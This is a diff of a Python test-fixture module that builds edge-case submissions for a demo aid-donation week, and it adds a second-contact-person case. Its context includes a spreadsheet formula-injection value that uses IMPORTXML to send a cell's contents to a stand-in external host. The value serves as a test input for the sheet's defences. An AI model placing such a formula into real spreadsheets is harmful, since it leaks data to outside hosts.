@@ -6,7 +6,7 @@ import datetime as dt
 from collections.abc import Mapping
 from dataclasses import replace
 
-from local.demo.people import STRANGER, Giver, donor
+from local.demo.people import SECOND_CONTACT, STRANGER, Giver, donor
 from local.demo.places import Place, Role
 from local.demo.submissions import Aid, Submission
 from local.demo.week import Week
@@ -16,6 +16,7 @@ from sheets_schema.private import Target
 FORMULA = '=IMPORTXML("http://contoh.example/?q="&A1,"//a")'
 ODD_QUANTITIES = ("0", "-5", "seratus", "1.000", "10000000")
 LATE, EDITED, THRICE = "terlambat", "disunting", "tiga-kali"
+OTHER_DESK, PHONE_NAME = "meja-lain", "nama-telepon"
 NO_PERIOD = "tanpa-periode"
 UNNAMED_FORM = "kosong"
 
@@ -40,7 +41,7 @@ def _quantities(week: Week, code: str) -> None:
 def _names(week: Week, code: str, institution: str) -> None:
     """Names that the public must not read, or that are no names."""
     phone = donor(5).phone
-    _named(week, "nama-telepon", institution, phone, donor(5))
+    _named(week, PHONE_NAME, institution, phone, donor(5))
     _named(week, "nama-rumus", institution, FORMULA, donor(6))
     _named(week, "nama-panjang", code, "Contoh " + "panjang " * 624 + "x", STRANGER)
 
@@ -73,6 +74,7 @@ def _arrivals(week: Week) -> None:
     _change(week, LATE, 3, seconds_hidden=60, injected=True)
     _change(week, THRICE, 1, pokes=3)
     _change(week, EDITED, 1)
+    _from_another_desk(week)
 
 
 def _change(
@@ -82,6 +84,15 @@ def _change(
     at = max(i for i, s in enumerate(week.submissions) if s.key.startswith("biasa-") and s.wave == wave)
     made = week.submissions[at]
     week.submissions[at] = replace(made, key=key, seconds_hidden=seconds_hidden, injected=injected, pokes=pokes)
+
+
+def _from_another_desk(week: Week) -> None:
+    """A donor's second contact person, unknown so far: staff will say that it is the same donor."""
+    at = next(i for i, s in enumerate(week.submissions) if s.key.startswith("biasa-") and s.party == donor(12).name)
+    made = week.submissions[at].answering(
+        contact=SECOND_CONTACT.contact, phone=SECOND_CONTACT.phone, email=SECOND_CONTACT.email
+    )
+    week.submissions[at] = replace(made, key=OTHER_DESK)
 
 
 def edited(made: Submission) -> Submission:
